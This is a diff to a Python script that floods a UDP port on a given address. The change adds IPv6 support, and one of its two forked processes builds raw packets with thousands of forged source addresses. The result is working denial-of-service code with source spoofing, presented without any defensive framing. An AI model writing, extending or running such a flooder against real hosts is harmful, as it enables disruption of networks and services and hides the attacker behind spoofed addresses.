@@ -13,11 +13,13 @@ import struct
 import sys
 import time
 from collections.abc import Sequence
-from ipaddress import IPv4Address
+from ipaddress import IPv4Address, IPv6Address, ip_address
+
+from forged_packets import datagram  # in the directory of this file
 
 _AT_ONCE = 1000
 _FORGED = 10_000
-_FIRST_FORGED = IPv4Address("11.0.0.1")
+_FIRST_FORGED = {4: IPv4Address("11.0.0.1"), 6: IPv6Address("fd0b::1")}
 _APART = 7919
 _SOURCE_PORT = 4000
 
@@ -57,22 +59,27 @@ def send(sock: socket.socket, packets: Sequence[bytes], seconds: float) -> None:
 
 
 def forged(address: str, port: int, payload: bytes) -> list[bytes]:
-    """Return IPv4 packets with a datagram; the kernel adds the checksum."""
+    """Return packets with a datagram; the kernel adds the checksum of an IPv4 header."""
+    version = ip_address(address).version
+    sources = [_FIRST_FORGED[version] + _APART * number for number in range(_FORGED)]
+    if version == 6:
+        return [datagram(source, address, port, payload) for source in sources]
     udp = struct.pack("!HHHH", _SOURCE_PORT, port, 8 + len(payload), 0) + payload
     header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0)
-    sources = ((_FIRST_FORGED + _APART * number).packed for number in range(_FORGED))
-    return [header + source + IPv4Address(address).packed + udp for source in sources]
+    return [header + source.packed + IPv4Address(address).packed + udp for source in sources]
 
 
 def main(address: str, port: int, payload: bytes, seconds: float) -> None:
     """Flood the port of an address for this number of seconds."""
+    family = socket.AF_INET if ip_address(address).version == 4 else socket.AF_INET6
     if os.fork():
-        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        sock = socket.socket(family, socket.SOCK_DGRAM)
+        sock.connect((address, port))
         packets = [payload] * _AT_ONCE
     else:
-        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        sock.connect((address, 0))
         packets = forged(address, port, payload)
-    sock.connect((address, port))
     send(sock, packets, seconds)
 
 
